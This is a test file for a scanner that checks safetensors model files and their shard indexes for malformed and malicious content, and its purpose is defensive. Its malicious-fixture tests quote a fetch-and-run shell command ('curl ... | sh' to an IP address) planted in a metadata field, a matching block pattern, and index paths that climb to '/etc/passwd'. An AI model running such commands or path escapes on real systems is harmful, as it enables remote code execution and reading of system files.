// Real files written by the safetensors library (fixtures/safetensors, see MANIFEST.md), the sharded
// checkpoint folder check, and the index scanner.
import { describe, expect, it } from 'vitest';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { scan, scanReport, fromBytes, SEVERITY_RANK, type FileReport, type ScanOptions } from '../../src/engine';
import { encodeUtf8 } from '../../src/engine/io/text';
import { reportProblems } from '../helpers/schema';

const FIX = join(process.cwd(), 'fixtures', 'safetensors');
const read = (rel: string) => new Uint8Array(readFileSync(join(FIX, rel)));
/** Scans a fixture under its fixture-relative path, as a dropped folder would name it. */
const scanFix = (rel: string, options: ScanOptions = {}) => scan(fromBytes(read(rel), rel), options);
const ids = (r: FileReport) => [...new Set(r.findings.map((f) => f.ruleId))].sort();
const only = (r: FileReport, id: string) => r.findings.filter((f) => f.ruleId === id);
const meta = () => ({ startedAt: new Date().toISOString(), durationMs: 1, options: {} });

async function scanFolder(dir: string): Promise<FileReport[]> {
  // The shards hold torch.full() matrices, which the weight statistics rightly call constant (INFO):
  // these tests are about the folder check, so the statistics are off.
  return Promise.all(readdirSync(join(FIX, dir)).sort().map((n) => scanFix(`${dir}/${n}`, { weightStats: false })));
}

describe('real safetensors files: benign', () => {
  for (const rel of ['benign/mixed-dtypes.safetensors', 'benign/numpy-no-metadata.safetensors',
    'benign/sharded/model-00001-of-00002.safetensors', 'benign/sharded/model-00002-of-00002.safetensors',
    'benign/sharded/model.safetensors.index.json']) {
    it(`finds nothing above INFO in ${rel}`, async () => {
      const r = await scanFix(rel);
      expect(r.findings.filter((f) => SEVERITY_RANK[f.severity] > SEVERITY_RANK.info)).toEqual([]);
      expect(r.complete).toBe(true);
      expect(r.status).toBe('clean');
    });
  }

  it('notes the dtypes, parameters and tensor names of the library-written mixed file', async () => {
    const r = await scanFix('benign/mixed-dtypes.safetensors');
    expect(r.nodes[0]!.notes).toMatchObject({
      tensorCount: 6, dtypes: { BF16: 1, F32: 2, F16: 1, I64: 1, BOOL: 1 },
      parameterCount: 16 * 4 + 4 * 8 + 8 + 5 + 9 + 0, metadataKeys: ['format'],
    });
    expect([...(r.nodes[0]!.notes!.tensorNames as string[])].sort()).toEqual(
      ['embed.weight', 'empty', 'layer.0.bias', 'layer.0.weight', 'mask', 'position_ids']);
  });

  it('reads the real index: shards, tensor count and total_size', async () => {
    const r = await scanFix('benign/sharded/model.safetensors.index.json');
    expect(r.format).toBe('safetensors-index');
    expect(r.nodes[0]!.notes).toMatchObject({ tensorCount: 4, totalSize: 12352,
      shards: ['model-00001-of-00002.safetensors', 'model-00002-of-00002.safetensors'] });
  });

  it('finds the real sharded checkpoint consistent with its index', async () => {
    const report = scanReport(await scanFolder('benign/sharded'), meta());
    expect(report.files.flatMap((f) => f.findings)).toEqual([]);
    expect(report.exitCode).toBe(0);
    expect(reportProblems(JSON.parse(JSON.stringify(report)))).toEqual([]);
  });
});

describe('real safetensors files: malformed', () => {
  it('header length past EOF → header-too-large, incomplete', async () => {
    const r = await scanFix('malformed/header-past-eof.safetensors');
    expect(ids(r)).toEqual(['safetensors/header-too-large']);
    expect(r.status).toBe('error');
  });

  it('truncated file → tensor-out-of-bounds for the cut tensor', async () => {
    const r = await scanFix('malformed/truncated.safetensors');
    expect(ids(r)).toEqual(['safetensors/tensor-out-of-bounds']);
    expect(only(r, 'safetensors/tensor-out-of-bounds')[0]!.location.pointer).toMatch(/^\/[ab]\/data_offsets$/);
  });

  it('overlapping offsets → overlapping-tensors naming a and b', async () => {
    const r = await scanFix('malformed/overlapping.safetensors');
    expect(ids(r)).toEqual(['safetensors/overlapping-tensors']);
    expect(only(r, 'safetensors/overlapping-tensors')[0]!.message).toBe('Tensors "a" and "b" share 8 bytes');
  });

  it('integer metadata → metadata-not-string at /__metadata__/epochs', async () => {
    const r = await scanFix('malformed/metadata-not-string.safetensors');
    expect(only(r, 'safetensors/metadata-not-string').map((f) => f.location.pointer)).toEqual(['/__metadata__/epochs']);
  });

  it('duplicate tensor key → duplicate-key, and the shadowed bytes show up as hidden', async () => {
    const r = await scanFix('malformed/duplicate-key.safetensors');
    expect(only(r, 'safetensors/duplicate-key')[0]!.location.pointer).toBe('/a');
    expect(ids(r)).toContain('safetensors/hidden-bytes');
  });

  it('leading spaces before "{" → noncanonical-header (the library itself still loads it)', async () => {
    const r = await scanFix('malformed/leading-space.safetensors');
    expect(ids(r)).toEqual(['safetensors/noncanonical-header']);
  });

  it('trailing comma → format/malformed, incomplete', async () => {
    const r = await scanFix('malformed/bad-json.safetensors');
    expect(ids(r)).toEqual(['format/malformed']);
    expect(r.complete).toBe(false);
  });
});

describe('real safetensors files: malicious', () => {
  it('ELF hidden in a gap → hidden-bytes at the gap, and the gap is swept as its own node', async () => {
    const r = await scanFix('malicious/gap-elf.safetensors');
    const f = only(r, 'safetensors/hidden-bytes')[0]!;
    expect(f.message).toMatch(/^4096 bytes between tensors/);
    expect(f.evidence).toMatch(/^7f 45 4c 46/);
    expect(r.nodes[1]?.path).toEqual(['malicious/gap-elf.safetensors', `gap-elf.safetensors#gap@${f.location.offset}`]);
    expect(r.status).toBe('issues');
  });

  it('ELF appended after the last tensor → hidden-bytes after the last tensor', async () => {
    const r = await scanFix('malicious/trailing-elf.safetensors');
    const f = only(r, 'safetensors/hidden-bytes')[0]!;
    expect(f.message).toBe('4096 bytes after the last tensor are not part of any tensor');
    expect(f.location.offset).toBe(r.size - 4096);
    expect(r.nodes).toHaveLength(2);
  });

  it('shell command in metadata reaches the string detectors (checked with a blacklist pattern)', async () => {
    const r = await scanFix('malicious/shell-metadata.safetensors', { blacklist: ['curl * | sh'] });
    const f = only(r, 'supply-chain/blacklisted-name')[0]!;
    expect(f.location.pointer).toBe('/__metadata__/post_load');
    expect(f.evidence).toContain('curl -s http://203.0.113.7/x.sh | sh');
  });

  it('index pointing at ../../../../etc/passwd → index-path-escape CRITICAL', async () => {
    const r = await scanFix('malicious/index-escape/model.safetensors.index.json');
    const f = only(r, 'safetensors/index-path-escape')[0]!;
    expect(f.severity).toBe('critical');
    expect(f.location.pointer).toBe('/weight_map/h.0.bias');
    expect(f.evidence).toBe('../../../../etc/passwd');
  });

  it('a shard carrying a tensor the index gives to another shard → index-inconsistent on that shard', async () => {
    const report = scanReport(await scanFolder('malicious/sharded-shadow'), meta());
    const all = report.files.flatMap((f) => f.findings);
    expect(all.map((f) => f.ruleId)).toEqual(['safetensors/index-inconsistent']);
    expect(all[0]!.location.path).toEqual(['malicious/sharded-shadow/model-00002-of-00002.safetensors']);
    expect(all[0]!.message).toBe('Shard "model-00002-of-00002.safetensors" holds 1 tensor(s) that model.safetensors.index.json assigns to other shards, e.g. "h.0.weight" to "model-00001-of-00002.safetensors"');
    expect(all[0]!.severity).toBe('warning');
    expect(report.exitCode).toBe(1);
    expect(reportProblems(JSON.parse(JSON.stringify(report)))).toEqual([]);
  });
});

describe('sharded checkpoint folder check', () => {
  const shardFiles = () => Promise.all(['model-00001-of-00002.safetensors', 'model-00002-of-00002.safetensors', 'model.safetensors.index.json']
    .map(async (n) => scan(fromBytes(read(`benign/sharded/${n}`), `ckpt/${n}`), { weightStats: false })));

  it('reports a shard the index names but the dropped folder lacks, on the index file', async () => {
    const [s1, , index] = await shardFiles();
    const report = scanReport([s1!, index!], meta());
    const idx = report.files.find((f) => f.path === 'ckpt/model.safetensors.index.json')!;
    expect(idx.findings.map((f) => [f.ruleId, f.evidence])).toEqual([['safetensors/index-inconsistent', 'model-00002-of-00002.safetensors']]);
    expect(idx.findings[0]!.location.path).toEqual(['ckpt/model.safetensors.index.json']);
    expect(idx.status).toBe('issues');
  });

  it('stays quiet when only the index was scanned (no shard of it present)', async () => {
    const [, , index] = await shardFiles();
    expect(scanReport([index!], meta()).files[0]!.findings).toEqual([]);
  });

  it('does not match shards from another folder', async () => {
    const [s1, s2] = await shardFiles();
    const index = await scan(fromBytes(read('benign/sharded/model.safetensors.index.json'), 'other/model.safetensors.index.json'));
    expect(scanReport([s1!, s2!, index], meta()).files.flatMap((f) => f.findings)).toEqual([]);
  });

  it('reports a shard lacking tensors the index assigns to it, and tensors the index does not list', async () => {
    const [s1, s2] = await shardFiles();
    const index = { metadata: { total_size: 1 }, weight_map: { 'h.0.weight': 'model-00001-of-00002.safetensors',
      'h.9.weight': 'model-00001-of-00002.safetensors', 'h.2.weight': 'model-00002-of-00002.safetensors', 'h.0.bias': 'model-00002-of-00002.safetensors' } };
    const ir = await scan(fromBytes(encodeUtf8(JSON.stringify(index)), 'ckpt/model.safetensors.index.json'));
    const report = scanReport([s1!, s2!, ir], meta());
    const shard1 = report.files.find((f) => f.path === 'ckpt/model-00001-of-00002.safetensors')!;
    expect(shard1.findings.map((f) => [f.message, f.evidence])).toEqual([
      ['Shard "model-00001-of-00002.safetensors" lacks 1 tensor(s) that model.safetensors.index.json assigns to it', '"h.9.weight"'],
      ['Shard "model-00001-of-00002.safetensors" holds 1 tensor(s) that model.safetensors.index.json does not list', '"h.1.weight"'],
    ]);
    // The input reports are not mutated.
    expect(s1!.findings).toEqual([]);
  });

  it('matches Windows-style paths', async () => {
    const files = await shardFiles();
    const win = files.map((f) => ({ ...f, path: f.path.replace('/', '\\') }));
    win.splice(1, 1);
    const report = scanReport(win, meta());
    expect(report.files.flatMap((f) => f.findings).map((f) => f.evidence)).toEqual(['model-00002-of-00002.safetensors']);
  });
});

describe('safetensors index scanner', () => {
  const scanIndex = (v: unknown, name = 'model.safetensors.index.json') => scan(fromBytes(encodeUtf8(typeof v === 'string' ? v : JSON.stringify(v)), name));

  it('flags absolute, drive-letter and climbing shard paths, once per distinct shard', async () => {
    const r = await scanIndex({ weight_map: { a: '/etc/passwd', b: 'C:\\Windows\\win.ini', c: 'sub/../../x.safetensors', d: '/etc/passwd', e: 'ok.safetensors' } });
    expect(only(r, 'safetensors/index-path-escape').map((f) => f.evidence)).toEqual(['/etc/passwd', 'C:\\Windows\\win.ini', 'sub/../../x.safetensors']);
  });

  it('flags a shard that is not a .safetensors file, a non-string shard and a bad total_size', async () => {
    const r = await scanIndex({ metadata: { total_size: -5 }, weight_map: { a: 'pytorch_model.bin', b: 3 } });
    expect(only(r, 'safetensors/index-inconsistent').map((f) => f.location.pointer).sort()).toEqual(['/metadata/total_size', '/weight_map/a', '/weight_map/b']);
  });

  it('flags duplicate weight_map keys', async () => {
    const r = await scanIndex('{"weight_map":{"a":"x.safetensors","a":"y.safetensors"}}');
    expect(only(r, 'safetensors/duplicate-key')[0]!.location.pointer).toBe('/weight_map/a');
  });

  it('is chosen by structure under any name, and by name alone when the content is broken', async () => {
    expect((await scanIndex({ weight_map: {} }, 'index.json')).format).toBe('safetensors-index');
    const broken = await scanIndex('{"weight_map": [', 'model.safetensors.index.json');
    expect(broken.format).toBe('safetensors-index');
    expect(ids(broken)).toEqual(['format/malformed']);
    expect((await scanIndex({ other: 1 }, 'config.json')).format).not.toBe('safetensors-index');
  });

  it('passes index metadata strings to the string detectors', async () => {
    const r = await scan(fromBytes(encodeUtf8(JSON.stringify({ metadata: { note: 'EVIL' }, weight_map: { x: 'evil.safetensors' } })), 'm.safetensors.index.json'), { blacklist: ['evil'] });
    expect(only(r, 'supply-chain/blacklisted-name').map((f) => f.location.pointer).sort()).toEqual(['/metadata/note', '/weight_map/x']);
  });
});

const CORPUS = join(process.cwd(), '..', 'shared', 'corpus', 'modelaudit', 'tests', 'assets', 'samples', 'safetensors');

describe.skipIf(!existsSync(CORPUS))('ModelAudit safetensors samples', () => {
  for (const name of existsSync(CORPUS) ? readdirSync(CORPUS).sort() : []) {
    it(`parses ${name} completely and hands its metadata to the string detectors`, async () => {
      const bytes = new Uint8Array(readFileSync(join(CORPUS, name)));
      const r = await scan(fromBytes(bytes, name), { blacklist: ['*'] });
      expect(r.format).toBe('safetensors');
      expect(r.complete).toBe(true);
      // '*' matches every string: each metadata value must have been inspected.
      const keys = r.nodes[0]!.notes!.metadataKeys as string[];
      const pointers = new Set(only(r, 'supply-chain/blacklisted-name').map((f) => f.location.pointer));
      for (const k of keys) expect(pointers.has(`/__metadata__/${k}`)).toBe(true);
    });
  }
});
